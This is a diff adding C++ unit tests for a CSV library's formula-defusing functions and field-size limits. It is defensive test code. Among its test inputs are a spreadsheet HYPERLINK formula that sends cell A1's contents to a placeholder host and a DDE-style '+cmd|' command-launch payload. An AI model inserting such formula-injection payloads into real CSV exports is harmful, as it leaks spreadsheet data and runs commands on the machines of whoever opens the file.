@@ -159,6 +159,80 @@ TEST_CASE("FormatRecord and Parse round-trip tricky values") {
   }
 }
 
+TEST_CASE("cells a spreadsheet would run as formulas are defused with an apostrophe") {
+  CHECK(DefuseFormula("=HYPERLINK(\"http://x/?\"&A1,\"c\")") ==
+        "'=HYPERLINK(\"http://x/?\"&A1,\"c\")");
+  CHECK(DefuseFormula("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
+  CHECK(DefuseFormula("-2+3") == "'-2+3");
+  CHECK(DefuseFormula("@SUM(1+1)") == "'@SUM(1+1)");
+  CHECK(DefuseFormula("\t=tab") == "'\t=tab");
+  CHECK(DefuseFormula("\r=cr") == "'\r=cr");
+  CHECK(DefuseFormula("+8613800000001") == "'+8613800000001");  // a phone: kept as text
+  // An apostrophe that RestoreFormula would take away is itself defused.
+  CHECK(DefuseFormula("'=1") == "''=1");
+  CHECK(DefuseFormula("''") == "'''");
+  // Everything else is as it was.
+  for (std::string_view v : {"", "张伟", "a=b", " =1", "'", "'quoted'", "O'Brien", "1-2"})
+    CHECK(DefuseFormula(v) == v);
+}
+
+TEST_CASE("RestoreFormula undoes DefuseFormula exactly, for every value") {
+  const std::vector<std::string> values = {"",
+                                           "'",
+                                           "''",
+                                           "'''",
+                                           "=",
+                                           "'=",
+                                           "''=",
+                                           "=1+1",
+                                           "'=1+1",
+                                           "-",
+                                           "-2",
+                                           "+",
+                                           "@",
+                                           "\t",
+                                           "\r",
+                                           "\t=tab",
+                                           "'\t",
+                                           "'a",
+                                           "a'",
+                                           "张伟",
+                                           "'张伟",
+                                           "O'Brien",
+                                           "+86 138 0000 0001"};
+  for (const std::string& v : values) {
+    CAPTURE(v);
+    CHECK(RestoreFormula(DefuseFormula(v)) == v);
+    // And through a CSV record, as an export and an import do.
+    Result<std::vector<Record>> parsed = Parse(FormatRecord({DefuseFormula(v), "x"}));
+    REQUIRE(parsed.ok());
+    REQUIRE(parsed->size() == 1);
+    CHECK(RestoreFormula((*parsed)[0].fields[0]) == v);
+  }
+}
+
+TEST_CASE("a field longer than the limit stops the parse with its line") {
+  ParseOptions small;
+  small.max_field_bytes = 1024;
+  CHECK(Parse("a,b\n" + std::string(1024, 'x') + ",c\n", small).ok());
+  Result<std::vector<Record>> unquoted = Parse("a,b\nc," + std::string(1025, 'x') + "\n", small);
+  REQUIRE_FALSE(unquoted.ok());
+  CHECK(unquoted.status().code() == Status::Code::kInvalidArgument);
+  CHECK(unquoted.status().message().find("line 2: field 2 is longer than 1 KiB") == 0);
+  // A quote never closed is caught at the limit, not at the end of the file.
+  Result<std::vector<Record>> quoted =
+      Parse("a,b\nc,d\n\"" + std::string(5000, 'x') + "\n" + std::string(5000, 'y'), small);
+  REQUIRE_FALSE(quoted.ok());
+  CHECK(quoted.status().message().find("line 3: field 1 is longer than 1 KiB") == 0);
+}
+
+TEST_CASE("the default field limit is 1 MiB") {
+  CHECK(kMaxFieldBytes == 1u << 20);
+  Result<std::vector<Record>> big = Parse("name\n" + std::string((1u << 20) + 1, 'x'));
+  REQUIRE_FALSE(big.ok());
+  CHECK(big.status().message().find("line 2: field 1 is longer than 1 MiB") == 0);
+}
+
 TEST_CASE("the sample members file parses into a header and 240 records") {
   std::ifstream in(QUN_TEST_DATA "/members-sample.csv", std::ios::binary);
   REQUIRE(in.good());
